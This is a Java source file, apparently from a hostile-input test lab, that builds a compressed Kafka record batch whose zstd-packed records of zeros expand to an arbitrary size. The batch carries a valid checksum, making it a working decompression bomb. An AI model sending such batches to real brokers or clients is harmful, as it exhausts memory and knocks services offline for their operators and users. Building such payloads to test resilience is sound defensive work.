package io.tribunal.lab.hostile;

import com.github.luben.zstd.ZstdOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.util.zip.CRC32C;

/** A record batch of a few KiB whose records of zeros decompress to any size; built without holding them in memory. */
record CompressedBomb(String name, int records, int bytesEach) {
    private static final int BATCH_OVERHEAD = 61;
    private static final int BEHIND_LENGTH = 49;
    private static final int CRC_FROM = 21;
    private static final short ZSTD = 4;
    private static final int CHUNK = 1 << 20;

    /** The batch as a produce request carries it (Kafka's message format 2). */
    ByteBuffer batch() throws IOException {
        byte[] packed = packed();
        ByteBuffer batch = ByteBuffer.allocate(BATCH_OVERHEAD + packed.length);
        batch.putLong(0).putInt(BEHIND_LENGTH + packed.length).putInt(-1).put((byte) 2);
        batch.putInt(0);
        batch.putShort(ZSTD).putInt(records - 1);
        batch.putLong(0).putLong(0);
        batch.putLong(-1).putShort((short) -1).putInt(-1);
        batch.putInt(records).put(packed);
        CRC32C crc = new CRC32C();
        crc.update(batch.array(), CRC_FROM, batch.capacity() - CRC_FROM);
        batch.putInt(CRC_FROM - Integer.BYTES, (int) crc.getValue());
        return batch.flip();
    }

    private byte[] packed() throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DataOutputStream out = new DataOutputStream(new ZstdOutputStream(packed))) {
            for (int i = 0; i < records; i++) {
                record(out, i);
            }
        }
        return packed.toByteArray();
    }

    private void record(DataOutputStream out, int offset) throws IOException {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.write(0);
        head.writeBytes(Forgery.varint(0));
        head.writeBytes(Forgery.varint(offset));
        head.writeBytes(Forgery.varint(-1));
        head.writeBytes(Forgery.varint(bytesEach));
        byte[] noHeaders = Forgery.varint(0);
        out.write(Forgery.varint(head.size() + (long) bytesEach + noHeaders.length));
        head.writeTo(out);
        zeros(out, bytesEach);
        out.write(noHeaders);
    }

    private static void zeros(OutputStream out, int count) throws IOException {
        byte[] chunk = new byte[Math.min(count, CHUNK)];
        for (int left = count; left > 0; left -= chunk.length) {
            out.write(chunk, 0, Math.min(left, chunk.length));
        }
    }

    @Override
    public String toString() {
        return name;
    }
}
